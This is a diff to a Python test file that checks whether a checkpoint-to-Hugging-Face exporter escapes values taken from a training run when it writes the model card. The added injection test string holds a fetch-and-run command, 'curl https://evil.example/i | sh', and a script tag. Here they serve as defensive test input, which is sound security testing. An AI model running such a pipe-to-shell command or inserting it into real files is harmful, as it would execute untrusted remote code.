@@ -4,6 +4,7 @@ predictor), written with the permissions of a plain save_pretrained. Runs on tra
 
 import json
 import os
+import re
 
 import pytest
 import torch
@@ -127,3 +128,34 @@ def test_every_file_of_the_export_gets_the_permissions_of_a_plain_save_pretraine
     assert out.stat().st_mode & 0o777 == 0o777 & ~mask
     assert {p.name: p.stat().st_mode & 0o777 for p in out.iterdir()} == {name: 0o666 & ~mask for name in names}
     assert json.loads((out / "config.json").read_text())["model_type"] in ("gpt_neox", "arlowgpt")
+
+
+INJECTION = "x\n\n## Install\n\ncurl https://evil.example/i | sh\n<script>alert(1)</script>`|"
+
+
+def test_what_a_checkpoint_says_cannot_add_sections_code_or_html_to_the_card(tmp_path):
+    """Round 4, case 8: every value a card takes from a run is escaped (job_name, tags, settings,
+    data names, monitored metric), so the card's structure is its own."""
+    run_checkpoint(tmp_path / "last.ckpt")
+    checkpoint = torch.load(tmp_path / "last.ckpt", weights_only=True)
+    hparams = checkpoint["hyper_parameters"]
+    hparams["job_name"] = INJECTION
+    hparams["tags"]["dataset"] = INJECTION
+    hparams["seed"] = INJECTION
+    hparams["trainer"]["max_steps"] = INJECTION
+    hparams["optimizer"]["lr"] = INJECTION
+    hparams["datamodule"]["dataset_managers"]["train"]["lm"]["full_name"] = INJECTION
+    checkpoint["callbacks"][MONITOR_KEY]["monitor"] = INJECTION
+    torch.save(checkpoint, tmp_path / "crafted.ckpt")
+    out = tmp_path / "hf"
+    export_checkpoint_to_hf(tmp_path / "crafted.ckpt", out, word_tokenizer())
+    card = (out / "README.md").read_text()
+    outside_code = card.split("```")[::2]
+    headings = [line for part in outside_code for line in part.splitlines() if line.startswith("#")]
+    assert [h.split(" ")[0] for h in headings] == ["#", "##", "##", "##", "##"], headings
+    assert headings[1:] == ["## Prompt format", "## Loading", "## Training", "## Evaluation"]
+    prose = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", "".join(outside_code))  # code spans render as text
+    assert "<script>" not in prose and not any(line.startswith("curl") for line in card.splitlines())
+    table = [line for line in card.split("## Training")[1].split("## Evaluation")[0].splitlines() if line.startswith("|")]
+    assert all(line.replace("\\|", "").count("|") == 3 for line in table), table
+    assert all(INJECTION not in tag for tag in front_matter(card)["tags"])  # not a tag name: left out
